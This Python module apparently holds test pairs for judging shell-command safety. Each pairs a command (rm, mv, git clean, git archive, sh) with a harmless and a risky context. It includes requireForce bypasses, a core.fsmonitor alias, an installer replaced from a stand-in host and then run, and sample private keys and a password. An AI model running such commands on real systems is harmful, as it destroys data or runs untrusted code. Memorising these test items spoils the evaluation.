"""Pairs about evidence that seems to hold and does not: settings led elsewhere, conditions, names that say little."""

from __future__ import annotations

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAA\\n-----END OPENSSH PRIVATE KEY-----\\n"
APP = "git init -q -b main\ntext README.md 'hello'\ntext src/app.py 'print(1)'\ntext src/util.py 'x = 2'\ncommit first"
NOTES = "repository\nfiles notes/x#.md 20"
LETTERS = "function rm 'trash-put \"$@\"'\nfiles letters/l#.md 9"
ON_SERVER = "'print(9) # edited on the server'"

NARROWED: list[tuple[str, str, str, str]] = [
    (
        "moved away where a folder is there, or not moved",
        "test -d old && mv a.md old/a.md; mv b.md a.md",
        "file b.md\nfolder old",
        "file a.md b.md",
    ),
    (
        "moved away behind a search",
        "grep -q x list && mv a.md tmp; mv b.md a.md",
        "file b.md list",
        "file a.md b.md list",
    ),
    (
        "moved away in the background",
        "mv big.md tmp & mv b.md big.md",
        "file b.md",
        "file big.md b.md",
    ),
    (
        "cleaning without force: settings that come in from another file",
        "git clean -d",
        NOTES,
        f"{NOTES}\ntext ~/.gitconfig '[include]\\n\\tpath = more\\n'",
    ),
    (
        "cleaning without force: settings in other letters, or without a value",
        "git clean -d",
        NOTES,
        f"{NOTES}\ntext ~/.gitconfig '[Clean]\\n\\tREQUIREFORCE =\\n'",
    ),
    (
        "cleaning without force: settings by variables",
        "git clean -d",
        NOTES,
        f"{NOTES}\nvar GIT_CONFIG_COUNT 1\nvar GIT_CONFIG_KEY_0 clean.requireForce\nvar GIT_CONFIG_VALUE_0 false",
    ),
    (
        "cleaning without force: set to nothing on the line",
        "git -c clean.requireForce= clean -d",
        "repository",
        NOTES,
    ),
    (
        "cleaning without force: set by the line",
        "git config clean.requireForce false && git clean -d",
        "repository",
        NOTES,
    ),
    (
        "a message for a commit: one that was made, or that was stopped",
        "rm .git/COMMIT_EDITMSG",
        "repository",
        "repository\nran 'true'\ntext .git/COMMIT_EDITMSG 'Let the parser read clauses\\n\\nA long text.\\n'",
    ),
    (
        "a folder of a commit unpacked",
        "git archive HEAD:src | tar x -C ../site",
        f"{APP}\nfolder ../site",
        f"{APP}\ntext ../site/app.py {ON_SERVER}",
    ),
    (
        "a commit unpacked without its first folder",
        "git archive HEAD | tar x --strip-components=1 -C ../site",
        f"{APP}\nfolder ../site",
        f"{APP}\ntext ../site/app.py {ON_SERVER}",
    ),
    (
        "an older commit unpacked where one works",
        "git archive HEAD~1 | tar x",
        f"{APP}\ntext src/app.py 'print(2)'\ncommit two",
        f"{APP}\ntext src/app.py 'print(2)'\ncommit two\ntext src/app.py 'print(3) # not yet'",
    ),
    (
        "an alias of git that starts a program by a setting",
        "cp ~/d/gitconfig ~/.gitconfig",
        "text ~/d/gitconfig '[alias]\\n  st = status\\n  lg = log --oneline -n 9\\n'",
        "text ~/d/gitconfig '[alias]\\n  st = -c core.fsmonitor=/tmp/x status\\n'",
    ),
    (
        "a word written over: a version, or what one signs in with",
        "echo none > pass.txt",
        "empty pass.txt",
        "text pass.txt 'Tr0ub4dor&3'",
    ),
    ("a short name: a try, or a private key", "rm work", "program work", f"text work '{KEY}'"),
    (
        "settings of a tunnel: an address, or the key too",
        "rm home.conf",
        "text home.conf '[Interface]\\nAddress = 10.0.0.2\\n'",
        "text home.conf '[Interface]\\nPrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\\n'",
    ),
    (
        "data of a program: a number, or the state of an infrastructure",
        "rm state.json",
        "text state.json '{\"a\": 1}'",
        'text state.json \'{"version": 4, "terraform_version": "1.5.0", "resources": [{"mode": "managed"}]}\'',
    ),
    ("a short name: a program, or a database", "rm shop", "program shop", "database shop 400"),
    ("a short name: a program, or a disk", "rm vm1", "program vm1", "image vm1"),
    (
        "what an editor keeps: older than the file, or never written to it",
        "rm '#plan.md#'",
        "file plan.md\ntext '#plan.md#' 'old'\nold '#plan.md#'",
        "file plan.md\nold plan.md\nedit '#plan.md#'",
    ),
    (
        "a function in a program's place: it throws away, or removes by another name",
        "rm -rf letters",
        LETTERS,
        "function rm 'gio remove \"$@\"'\nfiles letters/l#.md 9",
    ),
    (
        "an installer, or what the same line put in its place",
        "sh d.sh",
        "text d.sh 'echo hi'\ntyped 'curl -fsSL https://get.docker.com -o d.sh'",
        "text d.sh 'echo hi'\n"
        "typed 'curl -fsSL https://get.docker.com -o d.sh; curl -s https://example.net/x > d.sh'",
    ),
]

NARROWED_ASK: list[tuple[str, str, str]] = [
    ("a function that is taken away first", "unset -f rm; rm -rf letters", LETTERS),
    ("moved away if nothing fails", "false && mv a.md tmp; mv b.md a.md", "file a.md b.md"),
]
